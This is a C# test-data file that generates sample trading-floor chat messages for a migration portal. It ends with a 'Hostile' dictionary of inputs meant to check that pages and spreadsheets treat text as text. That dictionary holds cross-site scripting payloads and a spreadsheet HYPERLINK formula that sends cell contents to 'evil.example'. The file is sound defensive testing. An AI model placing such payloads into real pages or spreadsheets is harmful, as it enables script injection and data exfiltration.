namespace MigrationPortal.Samples.World;

/// <summary>What people write to each other on a trading floor, and what they paste.</summary>
internal static class SampleTexts
{
    private static readonly string[] Openings =
    [
        "Morning all.", "FYI:", "Heads up:", "Question from the desk:", "Quick one:", "Update:", "From the client:", "As discussed,", "Reminder:",
        "@all", "Thanks.", "Before the close:", "Re yesterday:", "Just in:", "Guten Morgen,", "Hi team,",
    ];

    private static readonly string[] Subjects =
    [
        "the 10y auction", "EURUSD", "the Frankfurt feed", "the overnight batch", "the Nikkei open", "trade 4471902", "the BUND future", "the margin call",
        "settlement for Müller & Söhne", "the repo book", "the risk report", "the São Paulo desk", "the new limit", "block B in Vodafone", "the corporate action in Łódź",
        "cable", "the gilt curve", "the Q3 numbers", "the match engine", "Brent Dec", "the dividend on Nestlé",
    ];

    private static readonly string[] Events =
    [
        "is through at 101.32, size done", "failed again at 05:40 and was restarted", "is confirmed by the counterparty", "needs a second pair of eyes before the close",
        "moved 12 bp on the print", "is booked twice, please cancel the later one", "goes to the committee on Thursday", "is late; operations are on it",
        "looks rich against swaps", "has been released to settlement", "is out of line with the vendor price", "will be rolled into December",
        "was quoted 42/44 in 50m", "is back after the network change", "is waiting for a signature in Zürich", "can be closed",
    ];

    private static readonly string[] Endings =
    [
        "", "", "", " Let me know.", " Ticket is open.", " Will update at noon.", " Cheers, see you at 7.", " Nothing to do for now.", " Please acknowledge.",
        " Confirmed by phone.", " (tape 3)", " ok?", " 👍", " See http://intranet.contoso.com/desk/4711 for details.", " Next check at 16:30 London time, New York takes over after that.",
    ];

    public static string Message(ref SampleRandom random)
    {
        var kind = random.Next(200);
        if (kind == 0)
            return $"ma-filelink:{SampleGuid.Of($"file-{random.Next(100_000)}"):D}.xlsx";
        if (kind == 1)
            return $"[STORY]{random.Pick(Subjects)}..{random.Pick(Openings)} {random.Pick(Subjects)} {random.Pick(Events)}.{random.Pick(Endings)}";
        if (kind == 2)
            return $"<a href=\"http://intranet.contoso.com/research/{random.Next(9999)}\">note on {random.Pick(Subjects)}</a>";
        if (kind < 20)
            return kind < 10 ? "ok" : "done, thanks";
        var text = $"{random.Pick(Openings)} {random.Pick(Subjects)} {random.Pick(Events)}.{random.Pick(Endings)}";
        return kind < 60 ? $"{text} Also {random.Pick(Subjects)} {random.Pick(Events)}, and {random.Pick(Subjects)} {random.Pick(Events)}." : text;
    }

    /// <summary>Texts that a page or a spreadsheet must not take for anything but text.</summary>
    public static IReadOnlyDictionary<long, string> Hostile { get; } = new Dictionary<long, string>
    {
        [3] = "<script>alert('not today')</script>",
        [5] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        [7] = "日本語のメッセージ, עברית, العربية, emoji 🧑🏽‍💻 and a\nline\tbreak",
        [9] = "<img src=x onerror=alert(1)>",
        [11] = "[STORY]Rate decision..The committee left rates unchanged; the press conference follows at 14:30 CET.",
        [13] = "ma-filelink:6f1d1c60-3a52-4a8e-9c1b-0d2f5e7a9b55.xlsx",
    };
}
